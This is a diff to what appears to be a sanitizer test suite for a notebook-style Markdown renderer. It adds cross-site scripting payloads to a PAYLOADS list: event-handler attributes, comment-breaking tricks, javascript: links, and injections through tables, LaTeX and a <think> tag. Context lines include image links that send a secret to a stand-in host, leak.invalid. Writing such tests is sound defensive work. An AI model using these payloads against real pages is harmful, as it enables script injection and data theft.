@@ -57,6 +57,14 @@ PAYLOADS = (
     f"<button data-commandlinker-command='apputils:change-theme' data-commandlinker-args='{_DARK}'>x</button>",
     f"$\\href{{javascript:{RUNS}}}{{x}}$ $$\\style{{background:url({HOME}/style)}}{{x}}$$",
     "<a id=jupyterapp href=x>x</a><form name=canary><input name=x></form>",
+    # tags that are allowed without attributes, comments, bare links and formulas
+    f"<b onmouseover={RUNS}>x</b> <br/onload={RUNS}> <sub style='background:url({HOME}/sub)'>x</sub><kbd><b></kbd></b></div>",
+    f"<details ontoggle={RUNS} open>\n<summary onclick={RUNS}>x</summary>\n<details>\n<img src=x onerror={RUNS}>\n</details>",
+    f"<!-- --!><img src=x onerror={RUNS}> -->\n<!--\n--><script>{RUNS}</script>\n<!--><svg onload={RUNS}>-->",
+    f"https://good.example/\"onmouseover=\"{RUNS} www.good.example/'onclick='{RUNS} javascript://x/%0a{RUNS}",
+    f"| `<script>|{RUNS}</script>` | $<img|src=x onerror={RUNS}>$ |\n|---|---|\n| <b>a | <i onclick={RUNS}>b</b> |",
+    f"\\begin{{pmatrix}}</p><script>{RUNS}</script>\\end{{pmatrix}} \\eqref{{<img src=x onerror={RUNS}>}}",
+    f"<think>\n<img src=x onerror={RUNS}></think>- [ ] <input autofocus onfocus={RUNS}>",
     # what calls home by itself
     f"![x]({HOME}/picture.png?q=secret)",
     "![x](//leak.invalid/relative.png) ![y](HTTP://leak.invalid/upper.png)",
